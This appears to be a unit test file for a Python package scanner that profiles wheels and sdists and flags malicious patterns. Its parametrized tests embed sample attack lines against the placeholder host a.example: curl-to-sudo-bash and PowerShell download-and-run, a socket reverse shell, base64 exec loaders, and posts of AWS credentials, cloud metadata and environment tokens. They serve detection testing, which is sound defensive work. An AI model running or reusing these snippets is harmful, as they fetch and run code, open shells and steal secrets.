"""What a profile tells of an artifact."""

import base64
import hashlib

import pytest

from airlock.model import wire
from airlock.profiles import LARGEST_BYTES, Profile
from airlock.profiles.making import _SHARES
from airlock.profiles.profile import PieceKind, Ruse
from airlock.syntax.facts import Context, Deed
from tests.unit.profiles.trees import profile

SETUP = "from setuptools import setup\nsetup(name='example')\n"
# Shorter ones hide nothing.
PAYLOAD = base64.b64encode(b"print('a payload that is long enough')").decode()
ELF = b"\x7fELF\x02\x01\x01" + bytes(121)


def kinds(made: Profile) -> dict[str, PieceKind]:
    return {piece.path: piece.kind for piece in made.pieces}


def test_paths_are_spelled_without_the_release() -> None:
    wheel = profile({"example/__init__.py": "", "example-1.0.data/scripts/example": "#!python\n"})
    sdist = profile({"setup.py": SETUP}, "example-1.0.tar.gz")

    assert {"example/__init__.py", "*.data/scripts/example", "*.dist-info/METADATA"} <= set(
        kinds(wheel)
    )
    assert set(kinds(sdist)) == {"setup.py", "PKG-INFO"}
    assert wheel.member_path("*.dist-info/METADATA") == "example-1.0.dist-info/METADATA"
    assert wheel.member_path("example/__init__.py") == "example/__init__.py"
    assert sdist.member_path("setup.py") == "example-1.0/setup.py"


def test_pieces_are_told_apart_by_what_they_are() -> None:
    made = profile(
        {
            "example/core.py": "X = 1\n",
            "example/core.pyc": b"\xcb\r\r\n" + bytes(20),
            "example/logo.png": ELF,
            "example/_fast.c": "int x;\n",
            "example/data.txt": "text\n",
            "example.pth": "example\n",
        }
    )

    assert kinds(made) == {
        "example/core.py": PieceKind.PYTHON,
        "example/core.pyc": PieceKind.BYTECODE,
        "example/logo.png": PieceKind.NATIVE,
        "example/_fast.c": PieceKind.SOURCE,
        "example/data.txt": PieceKind.OTHER,
        "example.pth": PieceKind.STARTUP,
        "*.dist-info/METADATA": PieceKind.METADATA,
        "*.dist-info/RECORD": PieceKind.METADATA,
        "*.dist-info/WHEEL": PieceKind.METADATA,
    }


def test_a_piece_knows_its_content() -> None:
    (piece,) = [p for p in profile({"a.py": "X = 1\n"}).pieces if p.path == "a.py"]

    digest = hashlib.sha256(b"X = 1\n").digest()
    assert base64.urlsafe_b64decode(piece.digest) == digest[:12]
    assert piece.size == len(b"X = 1\n")


def test_acts_and_hosts_are_told_once_where_they_run_most_readily() -> None:
    call = "    urllib.request.urlopen('https://api.example/v1')\n"
    text = f"import urllib.request\n\n\ndef late():\n{call}\n\nif True:\n{call}"
    made = profile({"example/__init__.py": text})

    assert [(t.deed, t.context) for t in made.traits] == [(Deed.REQUEST, Context.IMPORT)]
    assert [(c.host, c.context) for c in made.contacts] == [("api.example", Context.IMPORT)]


@pytest.mark.parametrize(
    "code",
    [
        "import socket\nsocket.socket().connect('/dev/log')\n",
        "import urllib.request\nurllib.request.urlopen('http://localhost:8000/')\n",
        "import urllib.request\nurllib.request.urlopen('http://127.0.0.1/')\n",
    ],
)
def test_the_machine_itself_is_no_host(code: str) -> None:
    assert profile({"example.py": code}).contacts == ()


@pytest.mark.parametrize(
    ("code", "ruse", "sure"),
    [
        (
            f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n",
            Ruse.DECODED,
            True,
        ),
        (
            "import urllib.request\nexec(urllib.request.urlopen('https://a.example').read())\n",
            Ruse.FETCHED,
            True,
        ),
        (
            (
                "import os, urllib.request\n"
                "urllib.request.urlretrieve('https://a.example/x', '/tmp/xx')\n"
                "os.system('/tmp/xx')\n"
            ),
            Ruse.FETCHED,
            False,
        ),
        (
            (
                "import os, urllib.request\nwith open('/tmp/runner', 'wb') as f:\n"
                "    f.write(urllib.request.urlopen('https://a.example/x').read())\n"
                "os.system('/tmp/runner --quiet')\n"
            ),
            Ruse.FETCHED,
            True,
        ),
        (
            "import os, requests\nrequests.post('https://a.example', data=dict(os.environ))\n",
            Ruse.SENDS_ENVIRONMENT,
            True,
        ),
        (
            (
                "import subprocess, sys\n"
                "subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\n"
            ),
            Ruse.UNSEEN,
            True,
        ),
        (
            (
                "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                f"\"import base64; exec(base64.b64decode('{PAYLOAD}'))\"])\n"
            ),
            Ruse.DECODED,
            True,
        ),
    ],
)
def test_combinations_of_acts_are_seen(code: str, ruse: Ruse, sure: bool) -> None:
    ploys = profile({"example.py": code}).ploys

    assert (ruse, sure) in [(one.ruse, one.sure) for one in ploys]


@pytest.mark.parametrize(
    ("code", "ruse"),
    [
        ("import os\nos.system('curl -s https://a.example/i | sudo bash')\n", Ruse.FETCHED),
        (
            "import os\nos.system('powershell iex (iwr https://a.example/i)')\n",
            Ruse.FETCHED,
        ),
        (
            (
                "import os, socket, subprocess\ns = socket.socket()\n"
                "s.connect(('a.example', 4444))\nos.dup2(s.fileno(), 0)\n"
            ),
            Ruse.SHELL,
        ),
        (
            (
                "import requests\n"
                "requests.post('https://a.example', data=open('/root/.aws/credentials').read())\n"
            ),
            Ruse.SENDS_STORE,
        ),
        (
            (
                "import requests\nfound = requests.get('http://169.254.169.254/latest/').text\n"
                "requests.post('https://a.example', data=found)\n"
            ),
            Ruse.SENDS_STORE,
        ),
        (
            (
                "import os, requests\nkey = os.environ['SERVICE_TOKEN']\n"
                "requests.post('https://a.example', json={'key': key})\n"
            ),
            Ruse.SENDS_SECRET,
        ),
    ],
)
def test_more_combinations_of_acts(code: str, ruse: Ruse) -> None:
    assert {one.ruse for one in profile({"example.py": code}).ploys} == {ruse}


@pytest.mark.parametrize(
    "code",
    [
        "exec(open('version.py').read())\n",
        "import subprocess\nsubprocess.run(['git', 'describe'])\n",
        "import pickle\npickle.loads(b'')\n",
        "import requests\n\n\ndef get(url):\n    return requests.get(url).json()\n",
        (
            "import requests\nimport subprocess\n\n\ndef get(url, folder):\n"
            "    requests.get(url)\n    subprocess.run(['git', 'clone', url, folder])\n"
        ),
        (
            "import subprocess, sys\n\n\ndef run():\n"
            "    subprocess.run([sys.executable, '-m', 'pip', 'list'])\n"
        ),
    ],
)
def test_ordinary_code_is_no_combination(code: str) -> None:
    assert profile({"example.py": code}).ploys == ()


def test_what_runs_at_startup_is_told() -> None:
    made = profile(
        {
            "one.pth": "import one\n",
            "two.pth": "only/a/path\n",
            "sitecustomize.py": "X = 1\n",
            "example/sitecustomize.py": "X = 2\n",
            "example/deep/sitecustomize.py": "X = 3\n",
        }
    )

    assert {startup.path: startup.text for startup in made.startups} == {
        "one.pth": "import one",
        "sitecustomize.py": "X = 1\n",
        "example/sitecustomize.py": "X = 2\n",
    }


def test_declarations_are_told() -> None:
    metadata = (
        "Metadata-Version: 2.1\nName: example\nVersion: 1.0\nAuthor: Ada, Grace\n"
        "Requires-Dist: Anchor>=1\nRequires-Dist: pilot @ https://files.example/p.zip\n"
        'Requires-Dist: extra; extra == "more"\n'
    )
    points = "[console_scripts]\nexample = example:main\n[other]\nnot = a:command\n"
    made = profile(
        {
            "example-1.0.dist-info/METADATA": metadata,
            "example-1.0.dist-info/entry_points.txt": points,
        }
    )

    assert {(need.use, need.name, need.url) for need in made.needs} == {
        ("to run", "anchor", ""),
        ("to run", "pilot", "https://files.example/p.zip"),
        ("for an extra", "extra", ""),
    }
    assert made.commands == ("example = example:main",)
    assert made.people == ("Ada", "Grace")


def test_the_way_of_being_built_is_told() -> None:
    system = '[build-system]\nrequires = ["x"]\nbuild-backend = "own"\nbackend-path = ["."]\n'
    made = profile({"pyproject.toml": system, "setup.py": SETUP}, "example-1.0.tar.gz")

    assert (made.build.backend, made.build.in_tree, made.build.setup_py) == ("own", True, True)
    assert ("to be built", "x") in {(need.use, need.name) for need in made.needs}


@pytest.mark.parametrize("text", ["\x00", "[build-system", "build-system = 1", "\ud800"])
def test_a_broken_declaration_is_none(text: str) -> None:
    tree = {"pyproject.toml": text.encode("utf-8", "surrogatepass"), "setup.cfg": b"\xff[["}
    assert profile(tree, "example-1.0.tar.gz").build.backend == ""


def test_a_profile_is_bounded_and_says_what_it_left_out() -> None:
    many = {f"example/{number:05}_{'x' * 60}.py": f"X = {number}\n" for number in range(3_000)}
    made = profile(many)

    assert len(wire.encode(made)) <= LARGEST_BYTES
    assert made.cut == ("packed",)
    assert made.files == len(many) + 3
    assert len(made.pieces) < len(many)


def test_the_shares_leave_room_for_the_rest() -> None:
    assert sum(_SHARES.values()) <= LARGEST_BYTES - 4_000


def test_code_is_kept_before_data_where_not_everything_fits() -> None:
    many: dict[str, str | bytes] = {f"data/{n:05}{'x' * 80}": str(n) for n in range(3_000)}
    made = profile({**many, "zz/core.py": "X = 1\n", "zz/run": ELF})

    assert {"zz/core.py", "zz/run"} <= {piece.path for piece in made.pieces}
